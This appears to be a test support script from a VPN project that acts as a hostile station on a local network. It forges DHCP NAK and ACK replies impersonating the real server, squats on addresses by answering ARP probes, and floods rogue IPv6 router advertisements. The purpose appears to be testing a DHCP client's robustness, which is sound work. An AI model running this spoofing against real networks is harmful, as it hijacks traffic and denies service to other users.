"""A hostile station on the LAN behind the tunnel, on a raw socket: no address, no mercy.

    python -m support.lan_stranger INTERFACE KIND

Kinds; each prints a line for what it did:

    dhcp      answers every REQUEST at once with a NAK and an ACK of its own making: under
              its own name, and under the name of the server that was asked
    squatter  has the first address that somebody probes for, whichever that is
    router    sends IPv6 router advertisements, five a second
"""

from __future__ import annotations

import contextlib
import select
import socket
import struct
import sys
import time

from sevpn.dhcp import message as msg
from sevpn.dhcp import options
from sevpn.dhcp.address import DhcpError, format_ip, parse_ip
from sevpn.dhcp.arp import REQUEST, build_arp_reply, parse_arp
from sevpn.dhcp.frame import BROADCAST_MAC, build_udp_frame, parse_udp_frame
from support.packets import ones_sum

MAC = bytes.fromhex("5e0000000bad")
ADDRESS = "10.77.0.66"
WRONG_ADDRESS = "10.77.0.222"
LINK_LOCAL = "fe80::bad"
PREFIX = "fd00:bad::"
ALL_PACKETS = 3  # ETH_P_ALL
RA_GAP_S = 0.2


def answers_to(frame: bytes) -> list[bytes]:
    """Return forged answers to a REQUEST."""
    try:
        datagram = parse_udp_frame(frame)
        if datagram is None or datagram.destination_port != 67:
            return []
        asked = msg.decode_message(datagram.payload)
    except DhcpError:
        return []
    if asked.kind != msg.REQUEST:
        return []
    named = format_ip(asked.options.get(options.SERVER_ID, parse_ip("10.77.0.1")))
    made = []
    for kind in (msg.NAK, msg.ACK):
        for server in (ADDRESS, named):
            values = {53: bytes((kind,)), 54: parse_ip(server)}
            if kind == msg.ACK:
                values |= {
                    51: (3600).to_bytes(4, "big"),
                    1: b"\xff\xff\xff\0",
                    3: parse_ip(ADDRESS),
                }
            answer = msg.Message(msg.OP_REPLY, asked.xid, asked.mac, values)
            answer.your = WRONG_ADDRESS if kind == msg.ACK else "0.0.0.0"
            payload = msg.encode_message(answer)
            # Not from the server's own MAC: a switch would find that odd.
            macs, ips = (MAC, BROADCAST_MAC), (server, "255.255.255.255")
            made.append(build_udp_frame(macs, ips, (67, 68), payload))
    return made


def router_advertisement() -> bytes:
    """Return an advertisement of a default router and a prefix to make addresses of."""
    prefix = struct.pack(
        "!4B3I16s", 3, 4, 64, 0xC0, 3600, 3600, 0, socket.inet_pton(socket.AF_INET6, PREFIX)
    )
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + prefix + b"\1\1" + MAC
    source = socket.inet_pton(socket.AF_INET6, LINK_LOCAL)
    target = socket.inet_pton(socket.AF_INET6, "ff02::1")
    pseudo = source + target + struct.pack("!II", len(body), 58)
    checksum = 0xFFFF & ~ones_sum(pseudo + body)
    body = body[:2] + struct.pack("!H", checksum) + body[4:]
    head = struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + source + target
    return bytes.fromhex("333300000001") + MAC + b"\x86\xdd" + head + body


def main() -> None:
    """Do harm until killed."""
    interface, kind = sys.argv[1:]
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ALL_PACKETS))
    link.bind((interface, 0))
    print("here", flush=True)
    taken = ""
    while True:
        if kind == "router":
            link.send(router_advertisement())
            print("advertised", flush=True)
            time.sleep(RA_GAP_S)
            continue
        select.select([link], [], [])
        frame, (_, _, packet_kind, *_) = link.recvfrom(65536)
        if packet_kind == socket.PACKET_OUTGOING:
            continue
        if kind == "dhcp":
            for answer in answers_to(frame):
                link.send(answer)
                print("forged", flush=True)
            continue
        with contextlib.suppress(DhcpError):
            arp = parse_arp(frame)
            if arp is None or arp.operation != REQUEST:
                continue
            if arp.sender == "0.0.0.0":
                taken = taken or arp.target
            if arp.target == taken:
                link.send(build_arp_reply(MAC, taken, arp.sender_mac, arp.sender))
                print(f"squatting on {taken}", flush=True)


if __name__ == "__main__":
    main()
